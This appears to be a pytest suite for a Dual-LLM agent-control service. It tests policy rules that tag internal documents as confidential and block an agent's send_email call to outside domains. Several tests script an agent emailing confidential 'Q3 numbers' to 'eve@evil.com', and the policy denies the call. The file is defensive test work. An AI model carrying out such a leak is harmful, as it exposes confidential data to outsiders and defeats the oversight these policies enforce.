"""Tests for Dual-LLM mode: tc- tool calls, result envelopes, metadata and policy denials."""

from __future__ import annotations

import json
from typing import Any

import aiohttp
import pytest
from emulator_helpers import DUAL, body, post, stream, user

from sequrity.control._tool_ids import session_id_from_tool_call_id
from sequrity.control.types.results import parse_result
from sequrity.testing import Emulator

pytestmark = pytest.mark.anyio

TOOLS = [
    {"type": "function", "function": {"name": "get_internal_document"}},
    {"type": "function", "function": {"name": "send_email"}},
]
EMAIL_POLICY = (
    'let sensitive_docs = {"internal_use", "confidential"};\n'
    'tool "get_internal_document" -> @tags |= sensitive_docs;\n'
    'tool "send_email" {\n'
    "    hard deny when (body.tags overlaps sensitive_docs) and\n"
    '        (not to.value in {str matching r".*@trustedcorp\\.com"});\n'
    "}\n"
)


def envelope(data: dict[str, Any]) -> dict[str, Any]:
    """Decode the result envelope of a final answer."""
    decoded: dict[str, Any] = json.loads(data["choices"][0]["message"]["content"])
    return decoded


def config(**response_format: bool) -> dict[str, str]:
    """Dual-LLM headers with the given response_format flags."""
    return {**DUAL, "X-Config": json.dumps({"response_format": response_format})}


async def test_default_dual_answer_is_a_success_envelope(
    http: aiohttp.ClientSession, emu: Emulator
) -> None:
    """Without a script Dual-LLM answers the built-in value in a success envelope."""
    status, data, headers = await post(
        http, emu, body("What is the largest prime number below 100?"), headers=DUAL
    )

    assert status == 200
    assert data["id"] == headers["X-Session-ID"]
    assert data["model"] == "openai/gpt-5-mini,openai/gpt-5-mini"
    assert data["choices"][0]["finish_reason"] == "stop"
    assert envelope(data) == {
        "status": "success",
        "final_return_value": {
            "value": 97,
            "meta": {"producers": [], "consumers": ["*"], "tags": []},
            "value_type": "int",
        },
    }
    assert parse_result(data["choices"][0]["message"]["content"]).status == "success"


async def test_two_models_are_echoed(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A 'pllm,qllm' model is echoed unchanged."""
    _, data, _ = await post(http, emu, {**body(), "model": "a,b"}, headers=DUAL)

    assert data["model"] == "a,b"


async def test_lang_graph_is_always_dual(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """The lang-graph endpoint runs Dual-LLM even when X-Features says single-llm."""
    _, data, _ = await post(
        http,
        emu,
        body("what is 1 + 1"),
        path="/control/lang-graph/v1/chat/completions",
        headers={"X-Features": '{"agent_arch": "single-llm"}'},
    )

    assert envelope(data)["final_return_value"]["value"] == 2


async def test_tool_round_trip(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A scripted tool call gets a tc- id; sending the result back yields the final envelope."""
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {"id": "7"}}])
    first_messages = [user("summarise doc 7")]
    _, first, headers = await post(
        http, emu, body(tools=TOOLS) | {"messages": first_messages}, headers=DUAL
    )
    session_id = headers["X-Session-ID"]
    message = first["choices"][0]["message"]
    [call] = message["tool_calls"]
    history = [
        *first_messages,
        message,
        {"role": "tool", "tool_call_id": call["id"], "content": "the secret plan"},
    ]

    _, final, final_headers = await post(
        http, emu, {"model": "m", "messages": history, "tools": TOOLS}
    )

    assert first["id"] == session_id
    assert first["choices"][0]["finish_reason"] == "tool_calls"
    assert message["content"] == ""
    assert session_id_from_tool_call_id(call["id"]) == session_id
    assert json.loads(call["function"]["arguments"]) == {"id": "7"}
    assert final_headers["X-Session-ID"] == session_id
    assert final["choices"][0]["finish_reason"] == "stop"
    result = envelope(final)
    assert result["status"] == "success"
    assert result["final_return_value"]["value"] == "the secret plan"
    assert result["final_return_value"]["meta"]["tags"] == ["__non_executable"]


async def test_policy_result_tags_propagate(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """Result rules of the policy tag tool results; the final value inherits the tags."""
    headers = {**DUAL, "X-Policy": json.dumps({"codes": {"code": EMAIL_POLICY}})}
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {"id": "1"}}])
    _, first, _ = await post(http, emu, body(tools=TOOLS), headers=headers)
    message = first["choices"][0]["message"]
    history = [
        user("hello"),
        message,
        {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "doc"},
    ]

    _, final, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})

    tags = envelope(final)["final_return_value"]["meta"]["tags"]
    assert tags == ["__non_executable", "confidential", "internal_use"]


async def _leak(
    http: aiohttp.ClientSession, emu: Emulator, to: str, **flags: bool
) -> dict[str, Any]:
    headers = {
        **config(**flags),
        "X-Policy": json.dumps({"mode": "standard", "codes": {"code": EMAIL_POLICY}}),
    }
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {"id": "1"}}])
    emu.script.tool_calls([{"name": "send_email", "arguments": {"to": to, "body": "Q3 numbers"}}])
    _, first, _ = await post(http, emu, body(tools=TOOLS), headers=headers)
    message = first["choices"][0]["message"]
    history = [
        user("send the doc"),
        message,
        {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "Q3 numbers"},
    ]
    _, second, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})
    return second


async def test_policy_denial_is_a_failure_envelope(
    http: aiohttp.ClientSession, emu: Emulator
) -> None:
    """Sending tagged data outside trustedcorp.com is denied with a failure envelope (HTTP 200)."""
    second = await _leak(http, emu, "eve@evil.com")

    assert second["choices"][0]["finish_reason"] == "stop"
    result = envelope(second)
    assert result["status"] == "failure"
    assert result["final_return_value"] is None
    assert result["error"]["code"] == "PolicyViolation"
    assert (
        "Tool call to 'send_email' is denied by argument checking policies."
        in result["error"]["message"]
    )
    denied = [e for e in result["policy_check_history"] if not e["allowed"]]
    assert denied[0]["tool"] == "send_email"
    assert denied[0]["denied"]
    assert parse_result(second["choices"][0]["message"]["content"]).status == "failure"


async def test_policy_allows_trusted_recipient(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """The same data may go to a trustedcorp.com address: the tool call is returned."""
    second = await _leak(http, emu, "bob@trustedcorp.com")

    assert second["choices"][0]["finish_reason"] == "tool_calls"
    assert second["choices"][0]["message"]["tool_calls"][0]["function"]["name"] == "send_email"


async def test_explicit_argument_meta(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A scripted argument meta is checked by the policy without any earlier result."""
    headers = {**DUAL, "X-Policy": json.dumps({"codes": {"code": EMAIL_POLICY}})}
    emu.script.tool_calls(
        [
            {
                "name": "send_email",
                "arguments": {"to": "eve@evil.com", "body": "x"},
                "meta": {"body": {"tags": ["confidential"]}},
            }
        ]
    )

    _, data, _ = await post(http, emu, body(tools=TOOLS), headers=headers)

    assert envelope(data)["error"]["code"] == "PolicyViolation"


async def test_response_format_options(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """include_program, include_policy_check_history and include_namespace_snapshot add keys."""
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {"id": "1"}}])
    headers = config(
        include_program=True, include_policy_check_history=True, include_namespace_snapshot=True
    )
    _, first, _ = await post(http, emu, body(tools=TOOLS), headers=headers)
    message = first["choices"][0]["message"]
    history = [
        user("hello"),
        message,
        {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "text"},
    ]

    _, final, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})

    result = envelope(final)
    assert "result_1 = get_internal_document(id='1')" in result["program"]
    assert "final_return_value = 'text'" in result["program"]
    assert result["policy_check_history"][0]["tool"] == "get_internal_document"
    assert result["policy_check_history"][0]["allowed"] is True
    assert set(result["namespace_snapshot"]) == {"result_1", "final_return_value"}
    assert result["namespace_snapshot"]["result_1"]["value"] == "text"


async def test_strip_response_content(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """strip_response_content answers the bare value as plain text."""
    _, data, _ = await post(
        http, emu, body("what is 20 + 22"), headers=config(strip_response_content=True)
    )

    assert data["choices"][0]["message"]["content"] == "42"


async def test_scripted_final_with_meta(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """final(value, meta=...) answers exactly that value and metadata."""
    emu.script.final({"answer": 1}, meta={"producers": ["db"], "tags": ["t"]})

    _, data, _ = await post(http, emu, body(), headers=DUAL)

    assert envelope(data)["final_return_value"] == {
        "value": {"answer": 1},
        "meta": {"producers": ["db"], "consumers": ["*"], "tags": ["t"]},
        "value_type": "dict",
    }


async def test_scripted_reply_in_dual_is_the_value(
    http: aiohttp.ClientSession, emu: Emulator
) -> None:
    """reply(text) in Dual-LLM mode becomes the success value."""
    emu.script.reply("done")

    _, data, _ = await post(http, emu, body(), headers=DUAL)

    assert envelope(data)["final_return_value"]["value"] == "done"


async def test_wrapped_tool_result_meta(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A tool result wrapped with is_sequrity_var brings its own value and metadata."""
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {}}])
    _, first, _ = await post(http, emu, body(tools=TOOLS), headers=DUAL)
    message = first["choices"][0]["message"]
    wrapped = {
        "value": 5,
        "meta": {"producers": ["hr"], "consumers": ["*"], "tags": ["pii"]},
        "is_sequrity_var": True,
    }
    history = [
        user("x"),
        message,
        {
            "role": "tool",
            "tool_call_id": message["tool_calls"][0]["id"],
            "content": json.dumps(wrapped),
        },
    ]

    _, final, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})

    result = envelope(final)["final_return_value"]
    assert result["value"] == 5
    assert result["meta"]["producers"] == ["hr"]
    assert result["meta"]["tags"] == ["__non_executable", "pii"]


async def test_non_executable_memory_can_be_disabled(
    http: aiohttp.ClientSession, emu: Emulator
) -> None:
    """With enable_non_executable_memory false, results are not tagged __non_executable."""
    policy = {"presets": {"enable_non_executable_memory": False}}
    headers = {**DUAL, "X-Policy": json.dumps(policy)}
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {}}])
    _, first, _ = await post(http, emu, body(tools=TOOLS), headers=headers)
    message = first["choices"][0]["message"]
    history = [
        user("x"),
        message,
        {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "r"},
    ]

    _, final, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})

    assert envelope(final)["final_return_value"]["meta"]["tags"] == []


async def test_unknown_tool_call_id_is_400(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A tool result answering a call the session never issued is refused."""
    _, _, headers = await post(
        http, emu, body(), headers={**DUAL, "X-Config": '{"fsm": {"max_n_turns": 5}}'}
    )
    history = [user("x"), {"role": "tool", "tool_call_id": "call_9", "content": "r"}]

    status, data, _ = await post(
        http,
        emu,
        {"model": "m", "messages": history},
        headers={"X-Session-ID": headers["X-Session-ID"]},
    )

    assert status == 400
    assert "Unknown tool_call_id 'call_9'" in data["detail"]


async def test_multi_turn_with_tool_calls(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A new user message after a tool result starts a new turn in the same session."""
    setup = {**DUAL, "X-Config": json.dumps({"fsm": {"max_n_turns": 2}})}
    emu.script.tool_calls([{"name": "get_internal_document", "arguments": {}}], times=2)
    _, first, headers = await post(http, emu, body(tools=TOOLS), headers=setup)
    message = first["choices"][0]["message"]
    call_id = message["tool_calls"][0]["id"]
    history = [
        user("a"),
        message,
        {"role": "tool", "tool_call_id": call_id, "content": "r"},
        user("b"),
    ]

    _, second, _ = await post(http, emu, {"model": "m", "messages": history, "tools": TOOLS})

    assert second["choices"][0]["finish_reason"] == "tool_calls"
    session = emu.sessions[headers["X-Session-ID"]]
    assert session.turns_completed == 0
    assert len(session.calls) == 2


async def test_dual_stream_carries_the_envelope(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """A streamed Dual-LLM answer concatenates to the JSON envelope."""
    _, payloads, headers = await stream(http, emu, body("what is 3 + 4", stream=True), headers=DUAL)

    chunks = [json.loads(p) for p in payloads[:-1]]
    text = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks)
    assert json.loads(text)["final_return_value"]["value"] == 7
    assert chunks[0]["id"] == headers["X-Session-ID"]


async def test_invalid_policy_code_is_400(http: aiohttp.ClientSession, emu: Emulator) -> None:
    """SQRT code that does not parse answers 400 naming X-Policy."""
    headers = {**DUAL, "X-Policy": json.dumps({"codes": {"code": "tool {"}})}

    status, data, _ = await post(http, emu, body(), headers=headers)

    assert status == 400
    assert data["detail"].startswith("Invalid X-Policy header: codes.code:")
    assert len(emu.sessions) == 0
